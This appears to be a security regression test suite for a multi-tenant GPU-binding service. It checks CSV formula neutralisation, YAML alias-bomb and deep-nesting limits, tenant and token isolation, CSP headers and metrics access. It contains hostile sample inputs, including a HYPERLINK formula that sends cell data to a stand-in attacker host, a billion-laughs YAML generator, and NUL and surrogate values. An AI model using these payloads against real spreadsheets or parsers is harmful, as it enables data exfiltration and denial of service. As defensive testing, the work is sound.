"""Hostile tenants and careless operators: no object, field or file stops the
binder, leaks another tenant's data, or injects into what staff open.

Each test reproduces one finding of the issue and fails on the code before its fix.
"""

from __future__ import annotations

from typing import Any

import pytest

from binder import models, sync
from binder.runtime.passes import run_pass
from harness.cluster_mode import cluster_gpus, mirrored_devices
from harness.controlplane import ControlPlane
from harness.shapes import A10, H100, class_obj, gpu_obj, namespace_obj, node_obj

GPUS = "/apis/gpuplane.io/v1alpha1"


# -- 1. per-object isolation ----------------------------------------------------------------


@pytest.mark.django_db
def test_a_gpu_with_a_nul_in_its_vm_name_stops_neither_the_sync_nor_the_passes(
    apiserver: ControlPlane,
) -> None:
    """A tenant's GPU with ``vmName: "x\\u0000y"`` (JSON allows it, PostgreSQL text does
    not) is refused at the parser, naming the object and the field; the sync mirrors the
    others, and every pass runs and places the other sets."""
    apiserver.seed(
        namespace_obj("t1"),
        namespace_obj("t2"),
        node_obj("n1", {H100: 4}),
        node_obj("n2", {A10: 4}),
        class_obj("h100", H100),
        class_obj("a10", A10),
        gpu_obj("t1", "vm1-gpu0", "h100", "vm1"),
        gpu_obj("t2", "vm9-gpu0", "a10", "vm9"),
    )
    # Created while an older CRD without the vmName rule was served (today's refuses it).
    with apiserver.older_crd("gpus", gpu_obj("t2", "probe", "a10", "x\u0000y")):
        apiserver.seed(gpu_obj("t2", "evil", "a10", "x\u0000y"))
    applied = sync.sync_once()
    assert applied["GPU"].invalid == 1
    assert set(mirrored_devices()) == {("t1", "vm1-gpu0"), ("t2", "vm9-gpu0")}
    for _ in range(2):
        run = run_pass("full")
        assert run.finished is not None
    gpus = cluster_gpus(apiserver)
    assert gpus[("t1", "vm1-gpu0")]["status"]["phase"] == "Bound"
    assert gpus[("t2", "vm9-gpu0")]["status"]["phase"] == "Bound"
    assert models.SyncStatus.objects.get(kind="GPU").invalid >= 1


@pytest.mark.django_db
def test_a_gpu_that_stops_parsing_keeps_its_row_and_units_and_is_marked(
    apiserver: ControlPlane,
    client: Any,
) -> None:
    """A Bound GPU whose bind-request annotation grows past 128 characters is not deleted:
    its row keeps the last good state (Bound on n1), says why it is refused, and its units
    stay booked, so no other set takes them while its VM runs."""
    apiserver.seed(
        namespace_obj("t1"),
        node_obj("n1", {H100: 2}),
        class_obj("h100", H100),
        gpu_obj("t1", "vm1-gpu0", "h100", "vm1", phase="Bound", node="n1"),
        gpu_obj("t1", "vm1-gpu1", "h100", "vm1", phase="Bound", node="n1"),
    )
    sync.sync_once()
    run_pass("full")
    apiserver.request(
        "PATCH", f"{GPUS}/namespaces/t1/gpus/vm1-gpu0",
        {"metadata": {"annotations": {"gpuplane.io/bind-request": "r" * 129}}},
    )  # fmt: skip
    apiserver.seed(gpu_obj("t1", "vm2-gpu0", "h100", "vm2"))
    applied = sync.sync_once()
    assert applied["GPU"].invalid == 1 and applied["GPU"].deleted == 0
    row = models.GpuDevice.objects.get(name="vm1-gpu0")
    assert (row.phase, row.node) == ("Bound", "n1")
    assert "bind-request" in row.parse_error and "at most 128" in row.parse_error
    status = models.SyncStatus.objects.get(kind="GPU")
    assert status.invalid >= 1 and "t1/vm1-gpu0" in status.last_invalid
    run_pass("full")  # the pass's fresh read keeps it too
    gpus = cluster_gpus(apiserver)
    assert (gpus[("t1", "vm2-gpu0")].get("status") or {}).get("phase", "Pending") == "Pending"
    assert models.GpuDevice.objects.get(name="vm1-gpu0").phase == "Bound"
    text = client.get("/metrics").content.decode()
    assert 'gpuplane_mirror_parse_errors{kind="GPU"} 1.0' in text
    assert 'gpuplane_sync_invalid_total{kind="GPU"}' in text
    # Fixed in the cluster: the row parses again and is unmarked.
    fixed = {"metadata": {"annotations": {"gpuplane.io/bind-request": "r1"}}}
    apiserver.request("PATCH", f"{GPUS}/namespaces/t1/gpus/vm1-gpu0", fixed)
    sync.sync_once()
    assert models.GpuDevice.objects.get(name="vm1-gpu0").parse_error == ""


# -- 2. CSV formula injection -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _formula_records() -> None:
    from datetime import timedelta

    from harness.shapes import NOW
    from usage.models import UsageRecord

    models.Namespace.objects.create(name="t1")
    for index, text in enumerate(FORMULAS):
        UsageRecord.objects.create(
            namespace="t1", subject_kind="GPU", subject=f"g{index}", vm_name=text, key=text, resource_name=H100,
            units=1, node="n1", phase="Bound", start=NOW - timedelta(hours=2), end=NOW - timedelta(hours=1),
        )  # fmt: skip


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    starting = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]
    assert starting == [], starting
    for text in FORMULAS:
        assert "'" + text in cells, text


@pytest.mark.django_db
def test_csv_exports_neutralise_cells_that_start_like_a_formula(clock: Any) -> None:
    """OWASP's rule in every export: a cell starting with =, +, -, @, tab or CR gets a
    leading single quote, so a tenant's vmName never runs as a formula in staff's sheet."""
    from django.contrib.auth.models import User
    from django.test import Client

    from harness.accounts import account, token_client

    _formula_records()
    api = token_client(account("alice", "t1"))
    answer = api.get("/api/v1/tenants/t1/usage-records", {"format": "csv"})
    assert answer.status_code == 200
    _assert_no_formula(_cells(b"".join(answer.streaming_content).decode()))

    root = User.objects.create_superuser("root", password="x")
    staff = Client()
    staff.force_login(root)
    export = staff.get("/admin/usage/usagerecord/export.csv")
    assert export.status_code == 200
    _assert_no_formula(_cells(b"".join(export.streaming_content).decode()))
    chart = staff.get("/admin/usage-chart/", {"from": "2026-11-29", "to": "2026-11-30", "format": "csv"})
    assert chart.status_code == 200, chart.content[:300]
    cells = _cells(chart.content.decode())
    assert "'" + FORMULAS[0] in cells and "'@SUM(A1)" in cells and "=" not in {c[:1] for c in cells}


# -- 3. YAML alias bombs and deep nesting -----------------------------------------------------


def _bomb(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels)]
    body = "\n".join("    " + line for line in lines)
    return f"apiVersion: v1\nkind: Namespace\nmetadata:\n  name: t1\n  labels:\n{body}\n"


@pytest.mark.django_db
def test_a_yaml_alias_bomb_is_refused_quickly_naming_the_line(tmp_path: Any) -> None:
    """A ~556-byte "billion laughs" under metadata.labels used to run past 60 s and 2 GB;
    the loader counts what aliases expand to while composing and stops at a small bound."""
    import time

    from binder.mirror.snapshot import SnapshotError, load_file

    path = tmp_path / "bomb.yaml"
    path.write_text(_bomb())
    assert path.stat().st_size < 1024
    started = time.monotonic()
    with pytest.raises(SnapshotError) as caught:
        load_file(path)
    assert time.monotonic() - started < 5
    message = str(caught.value)
    assert "aliases expand to more than" in message and "line" in message
    assert len(message) < 500
    assert not models.Namespace.objects.exists()


@pytest.mark.django_db
def test_deep_nesting_and_long_or_non_string_values_give_short_clear_errors(tmp_path: Any) -> None:
    from binder.mirror.snapshot import SnapshotError, load_file, load_objects

    deep = tmp_path / "deep.json"
    deep.write_text('{"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "t1", "labels": '
                    + "[" * 500 + "]" * 500 + "}}")  # fmt: skip
    with pytest.raises(SnapshotError, match="nested more than 64 levels"):
        load_file(deep)
    huge = "x" * 100_000
    with pytest.raises(SnapshotError) as caught:
        load_objects([{"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "t1", "labels": {"a": [huge]}}}])
    assert len(str(caught.value)) < 300 and "metadata.labels[a]" in str(caught.value)
    # a name that is a mapping is named by its type, not turned into a string
    with pytest.raises(SnapshotError) as caught:
        load_objects([{"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": {"k": huge}}}])
    message = str(caught.value)
    assert "metadata.name: must be a string" in message and len(message) < 300
    assert not models.Namespace.objects.exists()


# -- 4. staff API access follows the admin permissions ----------------------------------------


@pytest.mark.django_db
def test_staff_without_the_view_permission_read_no_tenant_through_the_api(clock: Any) -> None:
    """``is_staff`` with no permissions: 403 on the admin's usage records, and now 404 on
    every tenant's API too (it was 200 with every record); with the permission, 200."""
    from django.contrib.auth.models import Permission
    from django.test import Client

    from harness.accounts import account, token_client

    _formula_records()
    helpdesk = account("helpdesk", staff=True)
    admin_session = Client()
    admin_session.force_login(helpdesk)
    assert admin_session.get("/admin/usage/usagerecord/").status_code == 403
    api = token_client(helpdesk)
    for url in ("/api/v1/tenants/t1/usage-records", "/api/v1/tenants/t1/usage"):
        assert api.get(url).status_code == 404, url
        assert api.get(url, {"format": "csv"}).status_code == 404, url
    assert api.get("/api/v1/devices").json()["results"] == []
    helpdesk.user_permissions.add(Permission.objects.get(codename="view_usagerecord"))
    api = token_client(type(helpdesk).objects.get(pk=helpdesk.pk))  # permissions are cached per user object
    answer = api.get("/api/v1/tenants/t1/usage-records")
    assert answer.status_code == 200 and answer.json()["count"] == len(FORMULAS)
    assert api.get("/api/v1/devices").json()["results"] == []  # devices need binder's view_gpudevice


# -- 5. the board caps what it draws ------------------------------------------------------------


@pytest.mark.django_db
def test_the_board_caps_cells_per_node_and_counts_a_pod_bound_to_a_notready_node(admin_client: Any) -> None:
    """A pod requesting 200,000 units drew 200,000 cells (37 MiB); now at most MAX_CELLS per
    strip and a "+N" count. The rule for a pod with ``spec.nodeName`` on a NotReady node
    ("a pod not yet bound to a node counts ... on no node's capacity"): ``spec.nodeName``
    *is* the binding, so the pod is bound to that node and counts on its capacity there,
    whatever its phase and the node's readiness (the kubelet may yet start it)."""
    from binder.mirror.snapshot import load_objects
    from gpuplane.staff.board import MAX_CELLS
    from harness.shapes import plain_pod_obj

    hog = plain_pod_obj("t1", "hog", A10, 200_000, "n1")
    stuck = plain_pod_obj("t2", "stuck", A10, 3, "n2")
    stuck["status"]["phase"] = "Pending"
    load_objects([
        namespace_obj("t1"), namespace_obj("t2"), class_obj("a10", A10),
        node_obj("n1", {A10: 4}), node_obj("n2", {A10: 1_000_000}, ready=False), hog, stuck,
    ])  # fmt: skip
    page = admin_client.get("/admin/placement-board/")
    assert page.status_code == 200
    html = page.content.decode()
    assert len(html) < 2_000_000
    assert html.count('class="u ') <= 3 * MAX_CELLS
    assert f"+{200_000 - MAX_CELLS}" in html  # the hog's units past the cap, counted
    assert f"+{1_000_000 - 3 - (MAX_CELLS - 3)}" in html  # n2's free units past the cap
    assert "3/1000000" in html  # the stuck pod is booked on its NotReady node
    assert "200000/4" in html


# -- 6. no 500s, no tracebacks -------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("where", "value", "field"),
    [
        ("uid", "\ud800", "request.uid"),
        ("namespace", "t\ud800", "request.namespace"),
        ("namespace", "t\u00001", "request.namespace"),
    ],
)
def test_webhook_answers_400_for_a_lone_surrogate_or_nul(client: Any, where: str, value: str, field: str) -> None:
    from harness.factories import new_vmi, review
    from harness.webhook_calls import post

    body = review(new_vmi("t1", "vm1", ["vm1-gpu0"]))
    body["request"][where] = value
    answer = post(client, body)
    assert answer.status_code == 400
    assert answer.json()["field"] == field


@pytest.mark.django_db
def test_api_path_parts_with_a_nul_are_400_not_500() -> None:
    from harness.accounts import account, token_client

    models.Namespace.objects.create(name="t1")
    api = token_client(account("alice", "t1"))
    for url in ("/api/v1/devices/t1/a%00b", "/api/v1/devices/t1/a%00b/decisions", "/api/v1/tenants/t%00/usage",
                "/api/v1/devices/t1/a%ED%A0%80b"):  # fmt: skip
        answer = api.get(url)
        assert answer.status_code in (400, 404), (url, answer.status_code)
    answer = api.get("/api/v1/devices/t1/a%00b")
    assert answer.status_code == 400 and "name" in answer.json()


def _gpu_class(units: Any) -> dict[str, Any]:
    obj = class_obj("h100", H100)
    obj["spec"]["unitsPerDevice"] = units
    return obj


def _node_allocatable(units: str) -> dict[str, Any]:
    obj = node_obj("n1", {})
    obj["status"]["allocatable"][H100] = units
    return obj


def _labelled(value: str) -> dict[str, Any]:
    obj = namespace_obj("t1")
    obj["metadata"]["labels"] = {"team": value}
    return obj


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("obj", "field"),
    [
        (_gpu_class("3e9"), "spec.unitsPerDevice: must be at most 2147483647"),
        (_gpu_class("1e30"), "spec.unitsPerDevice: must be at most 2147483647"),
        (_node_allocatable("1e5000"), f"status.allocatable[{H100}]: must be at most 2147483647"),
        (namespace_obj("t\u00001"), "metadata.name: must not contain a NUL"),
        (_labelled("a\u0000b"), "metadata.labels[team]: must not contain a NUL"),
        (_labelled("a\ud800b"), "metadata.labels[team]: must not contain a lone surrogate"),
        (gpu_obj("t1", "g0", "h100", "x\u0000y"), "spec.vmName: must not contain a NUL"),
    ],
)
def test_snapshot_values_the_database_cannot_hold_are_clear_errors(obj: dict[str, Any], field: str) -> None:
    """Each was a traceback (DataError, OverflowError, ValueError) on one database or both;
    now a SnapshotError naming the object and field, and nothing is loaded."""
    from binder.mirror.snapshot import SnapshotError, load_objects

    with pytest.raises(SnapshotError) as caught:
        load_objects([obj])
    assert field in str(caught.value)
    assert "\x00" not in str(caught.value)
    assert not models.Namespace.objects.exists() and not models.GpuClass.objects.exists()


# -- 7. grants per token ------------------------------------------------------------------------


def _issue(*args: str) -> list[str]:
    import io

    from django.core.management import call_command

    out = io.StringIO()
    call_command("issue_token", *args, stdout=out)
    return out.getvalue().splitlines()


@pytest.mark.django_db
def test_grants_belong_to_tokens_and_revoke_token_removes_one(clock: Any) -> None:
    """A second ``issue_token u --namespaces b`` used to widen u's older token for ``a``
    to ``b`` too (grants were the user's); now each token reads what it was issued for,
    and ``revoke_token <key>`` ends one token without touching the other."""
    import io

    from django.core.management import CommandError, call_command
    from django.test import Client

    from usage.models import NamespaceGrant

    for name in ("a", "b"):
        models.Namespace.objects.create(name=name, uid=f"uid-{name}")
    first, second = _issue("u", "--namespaces", "a"), _issue("u", "--namespaces", "b")
    old, new = Client(HTTP_AUTHORIZATION=f"Token {first[-1]}"), Client(HTTP_AUTHORIZATION=f"Token {second[-1]}")
    assert old.get("/api/v1/tenants/a/usage").status_code == 200
    assert old.get("/api/v1/tenants/b/usage").status_code == 404  # not widened
    assert new.get("/api/v1/tenants/b/usage").status_code == 200
    assert new.get("/api/v1/tenants/a/usage").status_code == 404
    key = next(line.split()[1] for line in first if line.strip().startswith("key:"))
    out = io.StringIO()
    call_command("revoke_token", key, stdout=out)
    assert f"revoked token {key} of u (it read: a)" in out.getvalue()
    assert old.get("/api/v1/tenants/a/usage").status_code == 401
    assert new.get("/api/v1/tenants/b/usage").status_code == 200
    assert list(NamespaceGrant.objects.values_list("namespace", flat=True)) == ["b"]
    with pytest.raises(CommandError, match="no token with the key"):
        call_command("revoke_token", "gpp_nothere", stdout=io.StringIO())
    call_command("revoke_token", "--user", "u", stdout=io.StringIO())
    assert new.get("/api/v1/tenants/b/usage").status_code == 401


@pytest.mark.django_db
def test_a_grant_does_not_read_a_namespace_recreated_under_its_name(clock: Any) -> None:
    from datetime import timedelta

    from django.test import Client

    from harness.shapes import NOW
    from usage.models import UsageRecord

    models.Namespace.objects.create(name="a", uid="uid-first")
    UsageRecord.objects.create(
        namespace="a", subject_kind="GPU", subject="g0", vm_name="vm", key="h100", resource_name=H100, units=1,
        node="n1", phase="Bound", start=NOW - timedelta(hours=2), end=NOW - timedelta(hours=1),
    )  # fmt: skip
    token = _issue("u", "--namespaces", "a")[-1]
    api = Client(HTTP_AUTHORIZATION=f"Token {token}")
    assert api.get("/api/v1/tenants/a/usage").status_code == 200
    models.Namespace.objects.filter(name="a").delete()
    assert api.get("/api/v1/tenants/a/usage").status_code == 200  # the deleted tenant's history
    models.Namespace.objects.create(name="a", uid="uid-second")  # someone else's namespace now
    assert api.get("/api/v1/tenants/a/usage").status_code == 404


@pytest.mark.django_db
def test_grants_are_listed_and_editable_in_the_admin(clock: Any) -> None:
    from django.contrib.auth.models import User
    from django.test import Client
    from knox.models import AuthToken

    from usage.models import NamespaceGrant

    models.Namespace.objects.create(name="a")
    _issue("u", "--namespaces", "a")
    staff = Client()
    staff.force_login(User.objects.create_superuser("root", password="x"))
    listing = staff.get("/admin/usage/namespacegrant/")
    token = AuthToken.objects.get(user__username="u")
    assert listing.status_code == 200 and token.token_key in listing.content.decode()
    grant = NamespaceGrant.objects.get()
    bad = staff.post(f"/admin/usage/namespacegrant/{grant.pk}/change/", {"token": token.pk, "namespace": "Bad_Name"})
    assert bad.status_code == 200 and "is not a namespace name" in bad.content.decode()
    answer = staff.post("/admin/usage/namespacegrant/add/", {"token": token.pk, "namespace": "b", "namespace_uid": ""})
    assert answer.status_code == 302
    assert NamespaceGrant.objects.get(namespace="b").user.username == "u"


# -- 8. hardening -------------------------------------------------------------------------------


def _manage(*args: str, **env: str) -> Any:
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("GPUPLANE_", "DJANGO_"))}
    environ.update(env)
    return subprocess.run(
        [sys.executable, "manage.py", *args], cwd=root, env=environ, capture_output=True, text=True, check=False
    )


@pytest.mark.slow
def test_with_tls_check_deploy_has_no_hsts_or_cookie_warnings() -> None:
    secret = "k" * 60 + "-Zx9"
    done = _manage("check", "--deploy", GPUPLANE_TLS_CERT_FILE="/etc/tls/tls.crt", DJANGO_SECRET_KEY=secret,
                   DJANGO_ALLOWED_HOSTS="gpuplane.example")  # fmt: skip
    out = done.stdout + done.stderr
    for warning in ("W004", "W012", "W016"):
        assert warning not in out, out
    plain = _manage("check", "--deploy", DJANGO_SECRET_KEY=secret, DJANGO_ALLOWED_HOSTS="gpuplane.example")
    assert "W004" in plain.stdout + plain.stderr  # without TLS nothing claims HTTPS


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("GPUPLANE_FAULT_PASS_DELAY_SECONDS", "abc"),
        ("GPUPLANE_FAULT_PASS_DELAY_SECONDS", "-1"),
        ("GPUPLANE_RESYNC_SECONDS", "often"),
        ("GPUPLANE_BIND_WAIT_SECONDS", "nan"),
        ("GPUPLANE_LOG_LEVEL", "loud"),
        ("GPUPLANE_METRICS_OPEN", "maybe"),
    ],
)
def test_a_setting_that_does_not_parse_stops_start_up_naming_it(variable: str, value: str) -> None:
    done = _manage("check", **{variable: value})
    assert done.returncode != 0
    assert f"{variable}={value!r}" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.django_db
def test_admin_pages_carry_a_content_security_policy_without_inline_script(admin_client: Any) -> None:
    import re

    for url in ("/admin/", "/admin/placement-board/", "/admin/binder/gpudevice/"):
        page = admin_client.get(url)
        assert page.status_code == 200, url
        policy = page["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
        assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
        inline = [s for s in re.findall(r"<script\b([^>]*)>", page.content.decode()) if "src=" not in s
                  and "application/json" not in s]  # fmt: skip
        assert inline == [], (url, inline)


@pytest.mark.django_db
def test_metrics_need_a_token_by_default_in_cluster_mode_and_a_trailing_newline_is_stripped(
    client: Any, settings: Any, tmp_path: Any
) -> None:
    import os
    import subprocess
    import sys

    code = "import os; os.environ['DJANGO_SETTINGS_MODULE']='gpuplane.settings'; from django.conf import settings; " \
           "print(settings.GPUPLANE_METRICS_OPEN, repr(settings.GPUPLANE_METRICS_TOKEN))"  # fmt: skip
    token_file = tmp_path / "token"
    token_file.write_text("s3cret\n")  # as `kubectl create secret --from-file` writes it
    env = {k: v for k, v in os.environ.items() if not k.startswith("GPUPLANE_")}
    cluster = subprocess.run([sys.executable, "-c", code], env={**env, "GPUPLANE_CLUSTER": "kubernetes"},
                             capture_output=True, text=True, check=True)  # fmt: skip
    assert cluster.stdout.split() == ["False", "''"]
    from_file = subprocess.run([sys.executable, "-c", code],
                               env={**env, "GPUPLANE_METRICS_TOKEN_FILE": str(token_file)},
                               capture_output=True, text=True, check=True)  # fmt: skip
    assert from_file.stdout.split() == ["True", "'s3cret'"]
    from_env = subprocess.run([sys.executable, "-c", code], env={**env, "GPUPLANE_METRICS_TOKEN": "s3cret\n"},
                              capture_output=True, text=True, check=True)  # fmt: skip
    assert from_env.stdout.split() == ["True", "'s3cret'"]

    settings.GPUPLANE_METRICS_OPEN, settings.GPUPLANE_METRICS_TOKEN = False, ""
    closed = client.get("/metrics")
    assert closed.status_code == 401 and b"GPUPLANE_METRICS_TOKEN" in closed.content
    settings.GPUPLANE_METRICS_TOKEN = "s3cret"
    assert client.get("/metrics", HTTP_AUTHORIZATION="Bearer s3cret").status_code == 200


@pytest.mark.django_db
def test_class_label_values_are_bounded(client: Any) -> None:
    """Tenants choose the class names their GPUs name: a label per name was a series per
    object. Names no class has share one label; long names are cut; many classes cap."""
    from binder.metrics import MAX_CLASS_LABELS, MAX_LABEL_LENGTH, NO_SUCH_CLASS, OTHER_CLASSES

    ns = models.Namespace.objects.create(name="t1")
    models.GpuDevice.objects.bulk_create(
        [models.GpuDevice(namespace=ns, name=f"g{i}", class_name=f"evil-{i}", vm_name="vm") for i in range(300)]
    )
    models.GpuClass.objects.bulk_create(
        [models.GpuClass(name=f"c{i:03d}" + "x" * 200, resource_name=H100) for i in range(MAX_CLASS_LABELS + 5)]
    )
    text = client.get("/metrics").content.decode()
    lines = [line for line in text.splitlines() if line.startswith("gpuplane_class_devices{")]
    labels = {line.split('class="')[1].split('"')[0] for line in lines}
    assert len(labels) == MAX_CLASS_LABELS + 2
    assert NO_SUCH_CLASS in labels and OTHER_CLASSES in labels
    assert max(len(label) for label in labels) <= MAX_LABEL_LENGTH
    assert f'gpuplane_class_devices{{class="{NO_SUCH_CLASS}",phase="Pending"}} 300.0' in text
